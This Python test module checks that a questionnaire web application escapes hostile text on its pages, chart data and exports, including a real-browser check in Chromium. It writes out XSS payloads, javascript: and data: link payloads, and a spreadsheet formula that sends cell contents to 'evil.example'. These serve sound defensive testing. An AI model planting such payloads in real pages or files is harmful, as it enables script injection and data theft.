"""Script injection: hostile text wherever people can type it stays inert.

The payload — a closing ``</script>``, a ``<script>``, an ``<img onerror>``, an attribute
break-out and a template expression — goes into a questionnaire's title, a dimension's
title (the radar's labels), a question's text, help and option label, an agency's names,
a round's name, text answers, the reviewer's comments, a dispute and an evidence file's
name; evidence links may not be ``javascript:`` or ``data:``. Every page that shows them
must carry the text escaped (present, as text) and never as markup; chart data inside
``<script type="application/json">`` must not close its element; exports neutralise
formulas. A real Chromium opens the pages with charts and checks that no dialog opens and
no injected element exists.

The PDF scorecards are checked against the same hostile text in
``tests/scorecards/test_attacks.py`` (not repeated here).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from assess.extensions import db
from tests.conftest import make_app, serving, sqlite_copy
from tests.e2e.conftest import CHROMIUM_ARGS, chromium_path

MARK = "XSSMARK"
PAYLOAD = (
    MARK + '</script><script>alert("xss")</script><img src=x onerror=alert(1)>'
    "\"><svg onload=alert(2)>'{{7*7}}"
)
#: What must never appear in a page: the payload's markup as markup.
RAW = ("<script>alert(", "<img src=x", "<svg onload", '"><svg', "</script><script>")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PASSWORD = "correct horse battery"


def hostile_questionnaire() -> bytes:
    """The built-in 2569 questionnaire as code ``xss-test`` with the payload in its texts."""
    from assess.questionnaires.builtin import builtin_path

    path = builtin_path("dg-readiness", "2569")
    assert path is not None
    text = path.read_text("utf-8")
    quoted = json.dumps(PAYLOAD)  # a JSON string is a valid YAML double-quoted scalar
    replacements = {
        "code: dg-readiness\n": "code: xss-test\n",
        'supersedes: "2568"\n': "",
        "  en: Digital Government Readiness Assessment, fiscal year B.E. 2569\n": f"  en: {quoted}\n",
        "{th: การบริหารจัดการองค์การสู่ดิจิทัล (PMQA 4.0), en: Digital organisation management (PMQA 4.0)}": f"{{th: {quoted}, en: {quoted}}}",
        "en: To what extent does the head of the agency personally set the direction for, drive and follow up the agency's digital transformation?": f"en: {quoted}",
        "label: {th: ยังไม่กำหนดทิศทาง, en: No direction set}": f"label: {{th: {quoted}, en: {quoted}}}",
    }
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    # The first question's help (one line in the file) starts with the payload.
    help_line = re.compile(r"^(\s+en: )(Assess against PMQA 4\.0 category 1 .*)$", re.M)
    text, count = help_line.subn(lambda m: m.group(1) + json.dumps(PAYLOAD + m.group(2)), text, 1)
    assert count == 1
    return text.encode("utf-8")


def _fill(response, actor, extra: dict[str, Any], status: str) -> None:  # type: ignore[no-untyped-def]
    from assess.services import responses, results
    from assess.services.questionnaires import questionnaire_of
    from assess.synthetic import agency_answers

    questionnaire = questionnaire_of(response.questionnaire)
    answers = agency_answers(questionnaire, 0.6, random.Random(3), 1.0)
    raw = {code: responses.stored(value) for code, value in answers.items()}
    raw.update(extra)
    responses.save_answers(response, raw, revision=response.revision, actor=actor)
    responses.set_status(response, status, None)
    results.recompute(response)
    db.session.commit()


class Scene:
    """Agency X (hostile names) and a peer; round ``answering`` (X's response returned with
    hostile comments, a hostile evidence file and link) and round ``published`` (X's
    accepted response with a hostile dispute)."""

    def __init__(self, app) -> None:  # type: ignore[no-untyped-def]
        from assess.models import Dispute
        from assess.services import evidence, questionnaires, responses, rounds
        from assess.services.questionnaires import questionnaire_of
        from tests.conftest import World

        world = World(app)
        self.x = world.agency("AG-X", name_th="กรม" + PAYLOAD, name_en="Dept " + PAYLOAD)
        self.y = world.agency("AG-Y", name_en="Peer agency")
        self.coordinator = world.user("x@example.go.th", agency=self.x)
        self.coordinator_y = world.user("y@example.go.th", agency=self.y)
        self.reviewer = world.user("r@example.go.th", role="reviewer")
        self.admin = world.user("admin@example.go.th", role="admin")
        version, _ = questionnaires.import_text(hostile_questionnaire(), "xss-test.yaml")
        db.session.commit()
        self.version_id = version.id
        questionnaire = questionnaire_of(version)
        texts = [q.code for q in questionnaire.iter_questions() if q.type.value == "text"]
        self.text_code = texts[0]
        hostile = dict.fromkeys(texts, PAYLOAD)
        hostile[texts[-1]] = FORMULA
        self.evidence_code = "mgmt.leadership"
        # The published round: accepted answers, results out, a dispute.
        published = world.round(version, agencies=[self.x, self.y], name="ปี " + PAYLOAD)
        _fill(responses.get_response(published, self.x), self.coordinator, hostile, "accepted")
        _fill(responses.get_response(published, self.y), self.coordinator_y, {}, "accepted")
        rounds.move(published, "closed")
        rounds.move(published, "published")
        response = responses.get_response(published, self.x)
        response.disputes.append(
            Dispute(
                question_code=self.text_code, explanation=PAYLOAD, raised_by_id=self.coordinator.id
            )
        )
        db.session.commit()
        self.published = published.id
        # The round being answered: submitted, then returned with hostile comments.
        answering = world.round(version, agencies=[self.x, self.y], name="รอบ " + PAYLOAD)
        response = responses.get_response(answering, self.x)
        folder = app.config["EVIDENCE_FOLDER"]
        evidence.add_file(
            response,
            self.coordinator,
            self.evidence_code,
            '"><img src=x onerror=alert(1)>{{7*7}}.pdf',
            io.BytesIO(b"%PDF-1.4\n%%EOF\n"),
            folder=folder,
            max_bytes=10**6,
        )
        evidence.add_url(
            response,
            self.coordinator,
            self.evidence_code,
            'https://example.go.th/?q="><script>alert(1)</script>',
        )
        _fill(response, self.coordinator, hostile, "submitted")
        responses.review(response, self.reviewer, "return", PAYLOAD, {self.text_code: PAYLOAD})
        db.session.commit()
        self.answering = answering.id
        self.x_code = self.x.code
        for user in (self.coordinator, self.coordinator_y, self.reviewer):
            user.language = "en"
        db.session.commit()


@pytest.fixture(scope="module")
def xss(_sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The scene and the app, once for the module (the tests only read)."""
    folder = tmp_path_factory.mktemp("xss")
    app = make_app(folder, sqlite_copy(_sqlite_template, folder))
    with app.app_context():
        scene = Scene(app)
        yield app, scene
        db.session.remove()
        db.engine.dispose()


def signed_in(app, email: str):  # type: ignore[no-untyped-def]
    client = app.test_client()
    reply = client.post("/login", data={"email": email, "password": PASSWORD})
    assert reply.status_code == 302
    return client


def assert_inert(html: str, where: str, *, present: bool = True) -> None:
    """The payload's markup never appears as markup; its text does (escaped)."""
    for raw in RAW:
        assert raw not in html, f"{where}: {raw!r} unescaped"
    if present:
        assert MARK in html, f"{where}: the payload is not on the page (nothing proven)"
        assert "{{7*7}}" in html, f"{where}: a template expression was evaluated"
    # Inside <script> elements (chart data, page data) nothing may close the element early.
    for body in re.findall(r"<script[^>]*>(.*?)</script>", html, flags=re.S):
        assert "<script" not in body.lower(), f"{where}: a script element inside a script"


def test_coordinator_pages_keep_hostile_text_inert(xss):
    app, s = xss
    client = signed_in(app, "x@example.go.th")
    pages = [
        "/my",
        f"/rounds/{s.answering}/answer/mgmt",
        f"/rounds/{s.answering}/submit",
        f"/rounds/{s.answering}/workbook",
        f"/rounds/{s.published}/results",
        f"/rounds/{s.published}/disputes/new?question={s.text_code}",
        f"/rounds/{s.published}/results?lang=th",
        f"/rounds/{s.answering}/answer/mgmt?lang=th",
    ]
    for url in pages:
        reply = client.get(url)
        assert reply.status_code == 200, url
        assert_inert(reply.get_data(as_text=True), url)


def test_the_answer_page_shows_every_hostile_text_escaped(xss):
    app, s = xss
    client = signed_in(app, "x@example.go.th")
    html = client.get(f"/rounds/{s.answering}/answer/mgmt").get_data(as_text=True)
    escaped = "&lt;script&gt;alert("
    # Question text, help, option label, dimension title, comments, answer, file name.
    assert html.count(escaped) >= 6, html.count(escaped)
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;{{7*7}}.pdf" in html
    # The evidence link keeps its hostile query as text in an attribute that cannot end early.
    assert 'href="https://example.go.th/?q=&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in html


def test_the_radar_and_chart_data_cannot_close_their_script_element(xss):
    app, s = xss
    client = signed_in(app, "x@example.go.th")
    html = client.get(f"/rounds/{s.published}/results").get_data(as_text=True)
    spec = re.search(r'<script type="application/json" id="radar-spec">(.*?)</script>', html, re.S)
    assert spec is not None
    figure = json.loads(spec.group(1))
    # The hostile dimension title is in the chart's labels, as data.
    labels = figure["data"][0]["theta"]
    assert any(str(label).startswith(PAYLOAD[:20]) for label in labels), labels
    assert "<" not in spec.group(1)
    reviewer = signed_in(app, "r@example.go.th")
    for section in ("", "/heatmap", "/distributions", "/levels", "/trend", "/flags"):
        url = f"/central/rounds/{s.published}/results{section}"
        page = reviewer.get(url).get_data(as_text=True)
        for body in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S):
            assert "<" not in body, url
            json.loads(body)


def test_central_pages_keep_hostile_text_inert(xss):
    app, s = xss
    client = signed_in(app, "r@example.go.th")
    base = f"/central/rounds/{s.answering}"
    pages = [
        "/central/rounds",
        base,
        f"{base}/responses/{s.x_code}",
        f"{base}/responses/{s.x_code}/audit",
        f"/central/rounds/{s.published}/disputes",
        f"/central/rounds/{s.published}/responses/{s.x_code}/results",
        f"/central/rounds/{s.published}/results",
        f"/central/rounds/{s.published}/results/heatmap",
        f"/central/rounds/{s.published}/results/progress",
        f"/central/rounds/{s.published}/exports",
        "/central/agencies",
        f"/central/agencies/{s.x_code}",
        f"/central/questionnaires/{s.version_id}",
        "/central/questionnaires",
        "/central/activity",
        f"{base}/responses/{s.x_code}?lang=th",
    ]
    for url in pages:
        reply = client.get(url)
        assert reply.status_code == 200, url
        # Some lists show no hostile text at all (they only must not run any).
        assert_inert(reply.get_data(as_text=True), url, present=url != "/central/questionnaires")


def test_exports_neutralise_formulas_and_keep_text_as_text(xss):
    app, s = xss
    client = signed_in(app, "r@example.go.th")
    base = f"/central/rounds/{s.published}/exports"
    rows = list(csv.reader(io.StringIO(client.get(f"{base}/answers.csv").data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert PAYLOAD in cells  # text as it was typed: CSV is not HTML
    assert FORMULA not in cells
    assert "'" + FORMULA in cells  # neutralised (assess/services/exports.py)
    book = load_workbook(io.BytesIO(client.get(f"{base}/answers.xlsx").data))
    values = [c for row in book.active.iter_rows() for c in row if c.value == FORMULA]
    assert values, "the formula text is in the workbook"
    assert all(c.data_type == "s" for c in values)  # a text cell, never a formula
    answers = client.get(f"{base}/answers.json")
    assert answers.mimetype == "application/json"
    assert PAYLOAD in answers.get_data(as_text=True) or MARK in answers.get_data(as_text=True)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "https:/\\evil.example",
    ],
)
def test_evidence_links_must_be_web_addresses(xss, url):
    app, s = xss
    client = signed_in(app, "y@example.go.th")
    from assess.models import Evidence

    before = db.session.query(Evidence).count()
    reply = client.post(
        f"/rounds/{s.answering}/evidence",
        data={"code": s.evidence_code, "url": url},
        headers={"X-Requested-With": "fetch"},
    )
    assert reply.status_code == 400
    assert "is not a web address" in reply.get_json()["message"]
    assert db.session.query(Evidence).count() == before


# -- a real browser ------------------------------------------------------------------------------


@pytest.fixture
def live_xss(xss) -> Iterator[str]:  # type: ignore[no-untyped-def]
    """The scene's app served on 127.0.0.1 from a thread."""
    app, _ = xss
    with serving(app) as url:
        yield url


INJECTED = """() => ({
    images: document.querySelectorAll('img[src="x"]').length,
    svgs: document.querySelectorAll('svg[onload]').length,
    scripts: [...document.scripts].filter(s => s.textContent.includes('alert("xss")')
                                            && s.type !== 'application/json').length,
    flag: window.__xss === true,
})"""


def _in_chromium(base: str, visits: list[tuple[str, list[str]]]) -> dict[str, Any]:
    """Sign in and open each page in headless Chromium; what happened there.

    Runs in a thread of its own: Playwright's sync API cannot start where another test's
    browser session already runs an event loop.
    """
    from playwright.sync_api import sync_playwright

    executable = chromium_path()
    assert executable is not None
    seen: dict[str, Any] = {"dialogs": [], "errors": [], "pages": {}}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            for email, pages in visits:
                context = browser.new_context(locale="th-TH", timezone_id="Asia/Bangkok")
                page = context.new_page()
                page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
                page.on("pageerror", lambda exc: seen["errors"].append(str(exc)))
                page.goto(base + "/login")
                page.fill("input[name=email]", email)
                page.fill("input[name=password]", PASSWORD)
                page.locator("main form [type=submit]").click()
                page.wait_for_load_state("networkidle")
                for path in pages:
                    page.goto(base + path)
                    page.wait_for_load_state("networkidle")
                    # Hover over the charts: Plotly draws labels and hover text as SVG.
                    page.mouse.move(400, 400)
                    page.mouse.move(600, 500)
                    seen["pages"][path] = {
                        "marked": MARK in page.content(),
                        **page.evaluate(INJECTED),
                    }
                context.close()
        finally:
            browser.close()
    return seen


@pytest.mark.e2e
def test_in_chromium_no_dialog_opens_and_nothing_is_injected(xss, live_xss):
    if chromium_path() is None:
        pytest.skip("no Chromium installed (/usr/bin/chromium or chromium on PATH)")
    _, s = xss
    visits = [
        (
            "x@example.go.th",
            [
                f"/rounds/{s.answering}/answer/mgmt",
                f"/rounds/{s.published}/results",
                f"/rounds/{s.published}/disputes/new?question={s.text_code}",
            ],
        ),
        (
            "r@example.go.th",
            [
                f"/central/rounds/{s.published}/results",
                f"/central/rounds/{s.published}/results/heatmap",
                f"/central/rounds/{s.answering}/responses/{s.x_code}",
                f"/central/rounds/{s.published}/disputes",
                f"/central/agencies/{s.x_code}",
            ],
        ),
    ]
    outcome: dict[str, Any] = {}

    def run() -> None:
        try:
            outcome["seen"] = _in_chromium(live_xss, visits)
        except BaseException as exc:  # reported by the test below
            outcome["error"] = exc

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(300)
    assert not thread.is_alive(), "the browser did not finish"
    if "error" in outcome:
        raise outcome["error"]
    seen = outcome["seen"]
    assert seen["dialogs"] == []
    assert seen["errors"] == []
    assert len(seen["pages"]) == 8
    for path, found in seen["pages"].items():
        assert found == {"marked": True, "images": 0, "svgs": 0, "scripts": 0, "flag": False}, (
            path,
            found,
        )
